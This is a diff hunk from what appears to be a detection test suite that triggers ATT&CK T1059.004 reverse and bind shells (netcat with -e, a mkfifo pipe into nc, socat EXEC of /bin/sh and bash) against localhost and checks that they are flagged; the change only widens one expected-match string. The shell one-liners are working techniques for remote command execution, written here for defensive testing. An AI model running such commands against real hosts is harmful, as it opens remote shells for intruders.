@@ -63,7 +63,7 @@ TRIGGERS = [
     ("T1059.004", "nc -e", LISTENER % 4505 + later("nc.traditional -e /bin/sh 127.0.0.1 4505"), R, "4505"),
     ("T1059.004", "nc and a fifo", LISTENER % 4506 + later("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 4506 > /tmp/f"), R, "4506|nc"),
     ("T1059.004", "nc listens with a shell", later("nc.traditional -l -p 4507 -e /bin/sh") + "; sleep 0.5; (sleep 2 | nc.traditional 127.0.0.1 4507) & sleep 0.2",
-     R + "|net.listener", "4507"),
+     R + "|net.listener", "4507|nc.traditional|127.0.0.1"),
     ("T1059.004", "socat with a shell", LISTENER % 4508 + later("socat TCP:127.0.0.1:4508 EXEC:/bin/sh"), R, "4508|socat"),
     ("T1059.004", "socat with a terminal", LISTENER % 4509 + later("socat TCP:127.0.0.1:4509 EXEC:'bash -li',pty,stderr,setsid,sigint,sane"), R, "4509|socat"),
     ("T1059.004", "socat listens with a shell", later("socat TCP-LISTEN:4510,reuseaddr EXEC:/bin/bash") + "; sleep 0.5; (sleep 2 | socat - TCP:127.0.0.1:4510) & sleep 0.2",
